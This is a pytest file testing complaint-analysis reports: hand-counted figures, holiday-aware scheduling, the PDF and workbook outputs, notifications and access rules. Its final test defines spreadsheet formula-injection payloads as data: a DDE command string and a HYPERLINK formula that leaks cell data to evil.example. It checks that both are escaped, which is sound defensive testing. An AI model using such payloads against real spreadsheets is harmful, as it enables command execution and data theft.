"""Weekly and monthly analysis reports: every figure against hand counts, the jobs in time travel,
the stored PDF and workbook, the messages, and who may read them.

The history is tests/quality_support.py's (October 2026). Reports are produced by the
jobs at the first working day after the period, at 08:00; ``now`` is that instant.
"""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from quality_support import MEASURE_GC, add_discipline, at, build_history
from sla_support import cli_run, travel
from sqlalchemy import func, select

from app import db, settings
from app.models import CalendarOverride, Delivery, DepartmentMeasure, Document, JobRun, Notification, Report
from app.quality import analytics, reports

OCTOBER = analytics.period_containing("month", date(2026, 10, 1))
WEEK = analytics.period_containing("week", date(2026, 10, 12))  # Mon 10-12 .. Sun 10-18


def pdf_text(data: bytes) -> str:
    """The PDF's text without line breaks (lines wrap anywhere in Chinese)."""
    return "".join(page.extract_text().replace("\n", "") for page in PdfReader(io.BytesIO(data)).pages)


def rate(r):
    return (r["numerator"], r["denominator"])


@pytest.fixture
def october(app, make_complaint, org, discipline_kit):
    cases = build_history(make_complaint, org)
    add_discipline(org, discipline_kit)
    return cases


def test_month_figures_match_hand_counts(october):
    data = reports.report_data(db.session, OCTOBER, now=at(11, 2, 8))
    # Received in October: A, B, C, E (GC) and D (BA); in September F and G.
    assert (data["received"], data["previous_received"]) == (5, 2)
    assert data["received_change"] == pytest.approx(1.5)
    rates = {r["key"]: r for r in data["rates"]}
    assert rate(rates["valid_rate"]["current"]) == (3, 4)  # A, B, D valid; C invalid
    assert rate(rates["satisfaction_rate"]["current"]) == (1, 2)  # A satisfied, B not
    # Replies due in October: A (in time), B twice, D, E (late) -> 1 of 5.
    assert rate(rates["on_time_closure_rate"]["current"]) == (1, 5)
    # Judged invalid, C is closed by its polite reply (dated): the only closed case, never reopened.
    assert rate(rates["first_time_closure_rate"]["current"]) == (1, 1)
    # September: nothing judged, nothing followed up: no rate, and no change in points.
    assert rates["valid_rate"]["previous"]["value"] is None and rates["valid_rate"]["points"] is None
    assert rates["on_time_closure_rate"]["previous"]["value"] == 0.0  # F and G replied late
    assert rates["on_time_closure_rate"]["points"] == pytest.approx(20.0)
    stages = {s["stage"]: rate(s["timeliness"]) for s in data["stages"]}
    assert stages == {"investigate": (1, 4), "reply": (1, 5), "follow_up": (2, 2)}
    departments = {d["department"]: (d["received"], d["previous"], d["change"]) for d in data["departments"]}
    assert departments["工程部"] == (4, 1, pytest.approx(3.0))
    assert departments["保安部"] == (1, 1, pytest.approx(0.0))
    assert departments["客服部"] == (0, 0, None)
    assert [(i["label"], i["value"], i["share"]) for i in data["by_category"]] == [("设备故障", 5, 1.0)]
    # Worst: the longest delay, counted to 11-02 08:00 for stages still open.
    assert [(c["number"][:10], c["delay_hours"], c["late_stages"], c["unsatisfied"]) for c in data["worst"]] == [
        ("TS20261008", 574.0, 2, False),  # E: investigation due 10-09 10:00
        ("TS20261014", 430.0, 2, False),  # D: investigation due 10-15 10:00
        ("TS20261012", 310.0, 3, True),  # B: second reply due 10-20 10:00; customer unsatisfied
    ]
    assert [(p["staff"], p["tier"], p["fine_amount"], p["score_deduction"]) for p in data["penalties"]] == [
        ("刘强", 2, 200, 5)
    ]
    measures = {m["department"]: m["text"] for m in data["measures"]}
    assert measures["工程部"] == MEASURE_GC and measures["保安部"] is None


def test_week_figures_and_change_against_the_previous_week(october):
    data = reports.report_data(db.session, WEEK, now=at(10, 19, 8))
    assert (data["received"], data["previous_received"]) == (4, 1)  # A, B, C, D vs E
    assert data["received_change"] == pytest.approx(3.0)
    stages = {s["stage"]: rate(s["timeliness"]) for s in data["stages"]}
    # Due in the week: A's three stages (in time), B's investigation and first reply, D's two.
    assert stages == {"investigate": (1, 3), "reply": (1, 3), "follow_up": (1, 1)}
    assert [(c["number"][:10], c["delay_hours"], c["unsatisfied"]) for c in data["worst"]] == [
        ("TS20261014", 94.0, False),  # D: investigation due 10-15 10:00, open at 10-19 08:00
        ("TS20261012", 24.0, True),  # B: a day late twice, customer unsatisfied
    ]
    assert data["complaint_rate"] is None  # customers are counted per month
    assert data["penalties"] == [] and data["penalty_totals"] == {"count": 0, "fines": 0, "points": 0}


def test_empty_denominators_and_previous_period_read_as_dashes(app, make_complaint, org):
    make_complaint(department="GC", received_at=at(10, 8), now=at(10, 8))  # E alone, in the week of 10-05
    week = analytics.period_containing("week", date(2026, 10, 5))
    report = reports.generate(db.session, week, now=at(10, 12, 8))
    db.session.commit()
    data = reports.report_data(db.session, week, now=at(10, 12, 8))
    rates = {r["key"]: r["current"] for r in data["rates"]}
    assert rates["valid_rate"] == {"numerator": 0, "denominator": 0, "value": None}
    assert rates["satisfaction_rate"]["value"] is None
    assert data["received_change"] is None  # nothing in the week before
    text = pdf_text(report.document.content)
    assert "上周无投诉，不计算环比" in text
    assert "—" in text
    summary = load_workbook(io.BytesIO(report.xlsx)).worksheets[0]
    assert [summary.cell(row=n, column=2).value for n in (3, 4, 5)] == [1, 0, "—"]  # received, previous, change


def test_stored_pdf_and_workbook_hold_the_figures(october):
    report = reports.generate(db.session, OCTOBER, now=at(11, 2, 8))
    db.session.commit()
    doc = report.document
    assert doc.kind.value == "monthly_analysis" and doc.number == "人行析字〔2026〕1号"
    assert doc.title == "2026年10月客户投诉分析报告" and doc.period == "2026-10"
    text = pdf_text(doc.content)
    for expected in (
        "本月共受理客户投诉5件",
        "上月（2026年9月）2件",
        "环比增加150.0%",
        "1 / 5",
        MEASURE_GC[:10],
        "刘强",
    ):
        assert expected in text, expected
    # Sheets by position (their names are translated): summary, departments, category, channel,
    # level, timeliness, worst cases, penalties, measures.
    book = load_workbook(io.BytesIO(report.xlsx))
    assert len(book.worksheets) == 9
    summary, by_department, *_, worst_sheet, penalty_sheet, measure_sheet = book.worksheets
    # received, previous, change, judged, valid, closed, follow-ups, penalties, fines
    assert [summary.cell(row=n, column=2).value for n in range(3, 12)] == [5, 2, 1.5, 4, 3, 1, 2, 1, 200]
    assert summary.cell(row=5, column=2).number_format == "0.0%"
    departments = {row[0].value: [c.value for c in row] for row in by_department.iter_rows(min_row=2)}
    assert departments["工程部"][:4] == ["工程部", 4, 1, 3.0]
    assert departments["保安部"][6:9] == [0, 1, 0.0]  # D's reply: 0 of 1 in time
    worst = [[c.value for c in row] for row in worst_sheet.iter_rows(min_row=2)]
    assert [(w[0][:10], w[7]) for w in worst] == [("TS20261008", 574.0), ("TS20261014", 430.0), ("TS20261012", 310.0)]
    penalties = [[c.value for c in row] for row in penalty_sheet.iter_rows(min_row=2)]
    assert [(p[1], p[4], p[6], p[7]) for p in penalties] == [("刘强", 2, 200, 5)]
    measures = {row[0].value: row[1].value for row in measure_sheet.iter_rows(min_row=2)}
    assert measures["工程部"] == MEASURE_GC
    assert report.summary["received"] == 5 and report.summary["measures_missing"] == 6


def test_monthly_report_job_runs_once_on_the_first_working_day_after_national_day(
    app, make_complaint, org, monkeypatch
):
    make_complaint(department="GC", received_at=at(9, 14), now=at(9, 14))
    monkeypatch.setitem(app.config, "MAIL_SERVER", "127.0.0.1")  # e-mails are queued (the delivery job sends them)
    settings.put(db.session, "notify.wecom_webhook", "http://127.0.0.1:9/robot")
    db.session.commit()
    # October 1–7 are holidays: September's report waits for Thursday 10-08 at 08:00.
    for when in (at(10, 1, 9), at(10, 7, 23, 59), at(10, 8, 7, 59)):
        assert travel(app, when, only=["monthly_report"])["jobs"]["monthly_report"] == {"skipped": "not due"}
    done = travel(app, at(10, 8, 8), only=["monthly_report"])["jobs"]["monthly_report"]
    assert [d["period"] for d in done["done"]] == ["2026-09"]
    assert travel(app, at(10, 8, 8, 5), only=["monthly_report"])["jobs"]["monthly_report"] == {
        "skipped": "already done"
    }
    assert travel(app, at(10, 9, 8), only=["monthly_report"])["jobs"]["monthly_report"] == {"skipped": "not due"}
    report = db.session.scalars(select(Report)).one()
    assert (report.kind, report.period_start, report.label) == ("month", date(2026, 9, 1), "2026年9月")
    assert report.sent_at.isoformat().startswith("2026-10-08T08:00")
    # 总经理 and 人事行政经理 get it in their inbox (link to the report) and in the group robot.
    inbox = db.session.execute(select(Notification.user_id, Notification.link).where(Notification.kind == "report"))
    assert sorted(uid for uid, _ in inbox) == sorted([org.user("zongjingli").id, org.user("renshi").id])
    links = {link for _, link in db.session.execute(select(Notification.user_id, Notification.link))}
    assert f"/reportview/show/{report.id}" in links
    robot = db.session.scalars(select(Delivery).where(Delivery.channel == "wecom")).all()
    assert len(robot) == 1 and "2026年9月" in robot[0].subject
    mails = db.session.scalars(select(Delivery.target).where(Delivery.channel == "email")).all()
    assert sorted(mails) == ["renshi@example.com", "zongjingli@example.com"]
    assert db.session.scalar(select(func.count()).select_from(JobRun).where(JobRun.job == "monthly_report")) == 1


def test_weekly_report_counts_a_make_up_saturday_and_skips_holidays(app, make_complaint, org):
    make_complaint(department="GC", received_at=at(10, 12), now=at(10, 12))
    # The week after is made holidays, with Saturday 10-24 a make-up working day (调休).
    for day in range(19, 24):
        db.session.add(CalendarOverride(day=date(2026, 10, day), is_workday=False, note="测试放假"))
    db.session.add(CalendarOverride(day=date(2026, 10, 24), is_workday=True, note="测试调休"))
    db.session.commit()
    assert travel(app, at(10, 19, 8), only=["weekly_report"])["jobs"]["weekly_report"] == {"skipped": "not due"}
    assert travel(app, at(10, 23, 12), only=["weekly_report"])["jobs"]["weekly_report"] == {"skipped": "not due"}
    done = travel(app, at(10, 24, 8), only=["weekly_report"])["jobs"]["weekly_report"]
    assert [d["period"] for d in done["done"]] == ["2026-10-12"]
    report = db.session.scalars(select(Report)).one()
    assert report.label == "2026年10月12日至10月18日" and report.summary["received"] == 1
    assert report.document.number == "人行周析字〔2026〕1号"


def test_a_week_without_working_days_is_reported_with_the_next(app, make_complaint, org):
    make_complaint(department="GC", received_at=at(10, 12), now=at(10, 12))
    for day in range(19, 26):  # the whole week of 10-19 off
        db.session.add(CalendarOverride(day=date(2026, 10, day), is_workday=False, note="测试放假"))
    db.session.commit()
    done = travel(app, at(10, 26, 8), only=["weekly_report"])["jobs"]["weekly_report"]
    assert [d["period"] for d in done["done"]] == ["2026-10-12", "2026-10-19"]


def test_the_cli_time_travel_makes_decembers_report_on_the_make_up_sunday(app, make_complaint):
    make_complaint(department="BA", received_at=at(12, 15, year=2025), now=at(12, 15, year=2025))
    # 2026-01-01..03 are holidays; Sunday 01-04 is a 调休 working day.
    holiday = cli_run(app, "2026-01-02T09:00:00+08:00")["jobs"]
    assert holiday["monthly_report"] == holiday["monthly_grading"] == {"skipped": "not due"}
    summary = cli_run(app, "2026-01-04T08:00:00+08:00")
    assert [d["period"] for d in summary["jobs"]["monthly_report"]["done"]] == ["2025-12"]
    assert [d["period"] for d in summary["jobs"]["monthly_grading"]["done"]] == ["2025-12"]
    report = db.session.scalars(select(Report).where(Report.kind == "month")).one()
    assert report.summary["received"] == 1 and report.document.number == "人行析字〔2026〕1号"


# --- Who sees reports --------------------------------------------------------------------------


def test_reports_are_read_by_the_general_manager_and_hr_only(october, api, web):
    report = reports.generate(db.session, OCTOBER, now=at(11, 2, 8))
    db.session.commit()
    rid, doc_id = report.id, report.document_id
    for who in ("zongjingli", "renshi"):
        client = api(who)
        listing = client.get("/api/v1/report/")
        assert listing.status_code == 200 and [r["id"] for r in listing.json["result"]] == [rid]
        pdf = client.get(f"/api/v1/report/{rid}/pdf")
        assert pdf.status_code == 200 and pdf.mimetype == "application/pdf" and pdf.data[:4] == b"%PDF"
        xlsx = client.get(f"/api/v1/report/{rid}/xlsx")
        assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"
        assert web(who).get(f"/reportview/show/{rid}").status_code == 200
    for who in ("zhuguan_a", "kefu"):
        client = api(who)
        for url in ("/api/v1/report/", f"/api/v1/report/{rid}/pdf", f"/api/v1/report/{rid}/xlsx"):
            assert client.get(url).status_code == 403, (who, url)
        assert web(who).get(f"/reportview/pdf/{rid}").status_code == 403
        # Nor through the documents register.
        docs = client.get("/api/v1/document/?q=(page_size:100)")
        assert docs.status_code in (200, 403)
        if docs.status_code == 200:
            assert doc_id not in [d["id"] for d in docs.json["result"]]
            assert client.get(f"/api/v1/document/{doc_id}/download").status_code == 404


def test_hr_generates_a_report_on_demand_and_a_second_one_supersedes(october, api):
    hr = api("renshi")
    first = hr.post("/api/v1/report/generate", json={"kind": "month", "at": "2026-10"})
    assert first.status_code == 201, first.json
    second = hr.post("/api/v1/report/generate", json={"kind": "month", "at": "2026-10-15"})
    assert second.status_code == 201 and second.json["id"] == first.json["id"]
    docs = db.session.scalars(select(Document).where(Document.period == "2026-10").order_by(Document.id)).all()
    assert [d.version for d in docs] == [1, 2] and docs[0].superseded_at is not None
    assert db.session.get(Report, first.json["id"]).document_id == docs[1].id
    # The message went out once.
    assert db.session.scalar(select(func.count()).select_from(Notification).where(Notification.kind == "report")) == 2
    assert hr.post("/api/v1/report/generate", json={"kind": "month", "at": "2999-01"}).status_code == 422
    assert hr.post("/api/v1/report/generate", json={"kind": "year", "at": "2025"}).status_code == 422
    assert (
        api("zongjingli").post("/api/v1/report/generate", json={"kind": "week", "at": "2026-10-12"}).status_code == 403
    )


def test_report_list_and_generate_form_for_hr(october, web):
    reports.generate(db.session, OCTOBER, now=at(11, 2, 8))
    db.session.commit()
    page = web("renshi").get("/reportview/list/").get_data(as_text=True)
    assert "2026年10月" in page and 'action="/reportview/generate"' in page
    gm_page = web("zongjingli").get("/reportview/list/").get_data(as_text=True)
    assert "2026年10月" in gm_page and 'action="/reportview/generate"' not in gm_page
    r = web("renshi").post("/reportview/generate", data={"kind": "week", "at": "2026-10-14"})
    assert r.status_code == 302
    assert db.session.scalar(select(func.count()).select_from(Report).where(Report.kind == "week")) == 1


# --- Improvement measures ----------------------------------------------------------------------


def test_heads_write_their_own_departments_measures_and_managers_read_all(app, api, org):
    head = api("zhuguan_a")
    body = {"department": org.dept("GC").id, "period_kind": "month", "period_start": "2026-10-15", "text": "加强巡检"}
    r = head.post("/api/v1/measure/", json=body)
    assert r.status_code == 201, r.json
    mid = r.json["id"]
    assert head.get(f"/api/v1/measure/{mid}").json["result"]["period_start"] == "2026-10-01"
    assert head.post("/api/v1/measure/", json=body).status_code == 422  # one text per department and month
    other = {**body, "department": org.dept("BA").id}
    assert head.post("/api/v1/measure/", json=other).status_code in (403, 422)
    assert head.put(f"/api/v1/measure/{mid}", json={"text": "加强巡检，两小时到场"}).status_code == 200
    assert api("zhuguan_b").get(f"/api/v1/measure/{mid}").status_code == 404
    assert api("zhuguan_b").get("/api/v1/measure/").json["count"] == 0
    for who in ("renshi", "zongjingli"):
        assert api(who).get("/api/v1/measure/").json["count"] == 1
        assert api(who).post("/api/v1/measure/", json=body).status_code == 403
    assert api("kefu").get("/api/v1/measure/").status_code == 403


def test_a_head_files_weekly_measures_through_the_form(app, web, org):
    from app.models import DepartmentMeasure

    head = web("zhuguan_a")
    form = {"department": str(org.dept("GC").id), "period_kind": "week", "period_start": "2026-10-14", "text": "复盘"}
    assert head.post("/departmentmeasureview/add", data=form).status_code == 302
    measure = db.session.scalars(select(DepartmentMeasure)).one()
    assert (measure.period_kind, measure.period_start, measure.author_id) == (
        "week",
        date(2026, 10, 12),  # filed under the week's Monday
        org.user("zhuguan_a").id,
    )
    # A second text for the same week is refused with a message; nothing more is saved.
    page = head.post("/departmentmeasureview/add", data=form, follow_redirects=True).get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(DepartmentMeasure)) == 1
    assert "alert-danger" in page  # the reason is flashed


# --- Formula injection (issue 13, item 6) -------------------------------------------------------

INJECTED_SUBJECT = "=1+1+cmd|' /C calc'!A0"
INJECTED_MEASURE = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def test_user_text_is_written_as_text_never_as_a_formula(october):
    october["E"].subject = INJECTED_SUBJECT
    measure = db.session.scalars(select(DepartmentMeasure)).one()
    measure.text = INJECTED_MEASURE
    db.session.commit()
    report = reports.generate(db.session, OCTOBER, now=at(11, 2, 8))
    db.session.commit()
    book = load_workbook(io.BytesIO(report.xlsx))
    cells = {
        book[title].cell(row=row, column=column)
        for title in book.sheetnames
        for row in range(1, book[title].max_row + 1)
        for column in range(1, book[title].max_column + 1)
    }
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    worst = {row[0][:10]: row for row in book["重点案件"].iter_rows(min_row=2, values_only=True)}
    assert worst["TS20261008"][4] == "'" + INJECTED_SUBJECT
    measures = {row[0]: row[1] for row in book["整改措施"].iter_rows(min_row=2, values_only=True)}
    assert measures["工程部"] == "'" + INJECTED_MEASURE
